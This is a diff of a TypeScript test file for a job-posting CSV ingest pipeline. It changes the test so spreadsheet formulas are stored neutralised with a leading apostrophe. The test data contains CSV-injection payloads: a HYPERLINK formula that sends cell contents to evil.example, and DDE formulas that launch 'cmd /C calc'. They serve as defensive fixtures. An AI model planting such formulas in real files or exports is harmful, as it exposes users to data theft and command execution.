@@ -4,7 +4,7 @@ import { join } from 'node:path';
 import ExcelJS from 'exceljs';
 import iconv from 'iconv-lite';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { sourceMappingSchema, type Warehouse } from '@talent/models';
+import type { Warehouse } from '@talent/models';
 import { ingestAll, loadFile, type LoadResult } from '@talent/ingest';
 import { tempWarehouse } from './helpers/warehouse.js';
 import { config, normalizers, sharedReference } from './helpers/coders.js';
@@ -30,7 +30,7 @@ beforeEach(async () => {
 afterEach(() => ctx.dispose());
 
 async function rows(sql: string): Promise<Record<string, unknown>[]> {
-  return (await wh.conn.runAndReadAll(sql)).getRowObjectsJson() as Record<string, unknown>[];
+  return (await wh.conn.runAndReadAll(sql)).getRowObjectsJson();
 }
 
 /** Every load keeps rows read = loaded + rejected, in the result and in the warehouse. */
@@ -149,7 +149,7 @@ describe('bad input: each case gives a clear error or a rejected row with a reas
     await expectAccounting(r);
   });
 
-  it('posting dates in the future and spreadsheet formulas are rejected', async () => {
+  it('posting dates in the future are rejected; spreadsheet formulas (DDE included) load neutralised, kept as read in raw', async () => {
     const lines = postingLines(3);
     const p = writeUtf8(ctx.dir, 'board.csv', [
       POSTING_HEADER,
@@ -157,14 +157,36 @@ describe('bad input: each case gives a clear error or a rejected row with a reas
       '=HYPERLINK("http://evil.example/?"&A1;"点击"),柳州某公司,柳州-城中区,5-8千,大专,1年,2025-03-01',
       '电工,柳州某公司,柳州-城中区,5-8千,大专,1年,2026-02-01',
       '钳工,柳州某公司,柳州-城中区,5-8千,大专,1年,去年春天',
+      `"=cmd|' /C calc'!A0","+cmd|' /C calc'!A0",柳州-城中区,5-8千,大专,1年,2025-03-02`,
+      '=1+1,@SUM(1+1),柳州-城中区,-5,大专,1年,2025-03-03',
     ]);
     const r = await loadFile(wh.conn, POSTING_MAPPING, p, { today: TODAY });
-    expect(r.rowsLoaded).toBe(3);
+    expect(r.rowsLoaded).toBe(6);
     const rej = await rejects(r);
     expect(rej.map((x) => `${x.line} ${x.column_name}: ${x.reason}`)).toEqual([
-      '5 title: spreadsheet formula, not data',
       '6 posted_date: date in the future',
       '7 posted_date: not a recognisable date',
+    ]);
+    const shown = await rows(`SELECT p.line, p.title, p.company, p.salary_text, r.title AS raw_title, r.company AS raw_company
+      FROM core.job_posting p JOIN raw.job_posting r USING (load_id, line) WHERE p.line IN (5, 8, 9) ORDER BY p.line`);
+    expect(shown).toEqual([
+      {
+        line: '5',
+        title: `'=HYPERLINK("http://evil.example/?"&A1;"点击")`,
+        company: '柳州某公司',
+        salary_text: '5-8千',
+        raw_title: '=HYPERLINK("http://evil.example/?"&A1;"点击")',
+        raw_company: '柳州某公司',
+      },
+      {
+        line: '8',
+        title: `'=cmd|' /C calc'!A0`,
+        company: `'+cmd|' /C calc'!A0`,
+        salary_text: '5-8千',
+        raw_title: `=cmd|' /C calc'!A0`,
+        raw_company: `+cmd|' /C calc'!A0`,
+      },
+      { line: '9', title: "'=1+1", company: "'@SUM(1+1)", salary_text: '-5', raw_title: '=1+1', raw_company: '@SUM(1+1)' },
     ]);
     await expectAccounting(r);
   });
@@ -259,7 +281,7 @@ describe('bad input: each case gives a clear error or a rejected row with a reas
       expect(fast.reader).toBe('duckdb');
       expect((await rejects(fast)).map((x) => x.line)).toEqual([5]);
       const titles = (await rows(`SELECT line, title FROM core.job_posting WHERE load_id = '${fast.loadId}' ORDER BY line`)).map(
-        (x) => `${x.line}:${x.title}`,
+        (x) => `${String(x.line)}:${String(x.title)}`,
       );
       expect(titles).toEqual([2, 3, 4, 6, 7].map((l) => `${l}:${lines[l - 1]!.split(',')[0]}`));
       const setting = await rows(`SELECT current_setting('preserve_insertion_order') AS v`);
